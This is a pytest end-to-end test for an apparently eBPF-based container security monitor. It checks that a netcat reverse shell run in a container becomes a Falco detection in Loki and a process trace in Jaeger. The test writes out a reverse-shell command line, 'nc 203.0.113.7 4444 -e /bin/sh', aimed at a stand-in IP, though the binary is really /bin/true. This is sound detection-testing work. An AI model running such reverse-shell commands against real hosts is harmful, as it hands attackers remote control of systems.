"""The whole product, nothing hand-made: a process in a kubepods-shaped cgroup runs a netcat
reverse shell; the real agent (eBPF) sees it, the Collector batches it to the real processor
service, whose Falco rule flags it, and the detection lands in Loki, the process tree in
Jaeger. Root, the kernel and the Go-built stack.

Opt-in (OTELGUARD_E2E_FULL_PATH=1) because it does NOT pass yet: on the shared 2-core machine
the agent's whole-host event stream flows (tens of thousands of records reach Loki and the
processor emits detections), but the test container's own records never left the Collector
within 180 s; the failure message lists what did. Not yet isolated: agent lag under load,
attribution of the short-lived cgroup, or a processor stage holding/dropping them.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Iterator

import pytest

from tests.ebpf.containers import container
from tests.support.stack import (
    BACKENDS_CONFIG, GATEWAY_CONFIG, Agent, Collector, Jaeger, Loki, ProcessorService, backends_env,
    http_get, wait_until,
)

pytestmark = [
    pytest.mark.e2e, pytest.mark.kernel,
    pytest.mark.skipif(os.environ.get("OTELGUARD_E2E_FULL_PATH") != "1",
                       reason="opt-in: set OTELGUARD_E2E_FULL_PATH=1 (known failing, see docstring)"),
]

NETCAT_RULE = "Netcat Remote Code Execution in Container"


@pytest.fixture(scope="module")
def full_path(tmp_path_factory: pytest.TempPathFactory, loki: Loki,
              jaeger: Jaeger) -> Iterator[tuple[Collector, ProcessorService, Agent]]:
    tmp = tmp_path_factory.mktemp("full")
    col = Collector(tmp / "otelcol", [BACKENDS_CONFIG, GATEWAY_CONFIG], backends_env(loki, jaeger))
    proc = ProcessorService(tmp / "processor", export=col.otlp_grpc)
    col.env["OTELGUARD_PROCESSOR_ENDPOINT"] = proc.endpoint
    agent = Agent(tmp / "agent", col.agents_grpc)
    started = []
    try:
        for comp in (proc, col, agent):
            comp.start()
            started.append(comp)
        yield col, proc, agent
    finally:
        for comp in reversed(started):
            comp.stop()


def diagnose(col: Collector, container_id: str) -> str:
    """What the Collector exported for this container: (stream, event_name, body) per record."""
    seen = []
    for doc in col.tap_lines():
        for rl in doc.get("resourceLogs", []):
            attrs = {a["key"]: a["value"].get("stringValue") for a in rl["resource"]["attributes"]}
            if attrs.get("container.id") == container_id:
                for sl in rl.get("scopeLogs", []):
                    for r in sl.get("logRecords", []):
                        seen.append((attrs.get("otelguard.stream"), r.get("eventName"),
                                     str(r.get("body", {}).get("stringValue", ""))[:80]))
    total: dict[str, int] = {}
    cids: set[str] = set()
    for doc in col.tap_lines():
        for rl in doc.get("resourceLogs", []):
            attrs = {a["key"]: a["value"].get("stringValue") for a in rl["resource"]["attributes"]}
            cids.add(str(attrs.get("container.id")))
            k = str(attrs.get("otelguard.stream"))
            total[k] = total.get(k, 0) + sum(len(sl.get("logRecords", [])) for sl in rl.get("scopeLogs", []))
    marker = [(attrs_line, r.get("eventName")) for doc in col.tap_lines() for rl in doc.get("resourceLogs", [])
              for attrs_line in [str({a["key"]: a["value"].get("stringValue") for a in rl["resource"]["attributes"]})]
              for sl in rl.get("scopeLogs", []) for r in sl.get("logRecords", []) if "203.0.113.7" in json.dumps(r)]
    return (f"records mentioning the peer: {marker[:5]}; {len(seen)} records of the container {container_id} left the Collector: {seen[:30]}; "
            f"all records by stream: {total}; container ids seen: {sorted(cids)[:10]}")


def test_reverse_shell_in_a_container_becomes_a_detection_in_loki_and_a_trace_in_jaeger(
        full_path: tuple[Collector, ProcessorService, Agent], loki: Loki, jaeger: Jaeger,
        tmp_path: Path) -> None:
    nc = tmp_path / "nc"          # /bin/true under nc's name: the exec is what matters, not a shell
    shutil.copy("/bin/true", nc)
    with container() as c:
        # the sleep keeps the cgroup populated while the agent resolves its id to the container
        c.run(["/bin/sh", "-c", f"{nc} 203.0.113.7 4444 -e /bin/sh; /bin/sleep 1; exit 0"], check=True)
        q = f'{{otelguard_stream="detection"}} | container_id="{c.container_id}" | security_rule_name="{NETCAT_RULE}"'

        def found() -> list[dict[str, str]]:
            return [s["stream"] for s in loki.query_range(q, since_s=600)["result"] for _ in s["values"]]
        ok = wait_until(lambda: len(found()) >= 1, 180, 2.0)
        if not ok:
            m = http_get(f"http://{full_path[2].metrics}/metrics")[1].decode()
            m = "\n".join(x for x in m.splitlines() if x.startswith("otelguard_") and "_created" not in x and "latency" not in x)
        assert ok, diagnose(full_path[0], c.container_id) + "\n" + m
    labels = found()[0]
    assert labels["process_executable_name"] == "nc"
    assert labels["k8s_pod_uid"] == c.pod_uid
    trace_id = labels["trace_id"]

    def names() -> set[str]:
        return {sp["name"] for rs in jaeger.trace(trace_id)
                for ss in rs.get("scopeSpans", []) for sp in ss.get("spans", [])}
    assert wait_until(lambda: "exec nc" in names(), 60), names()
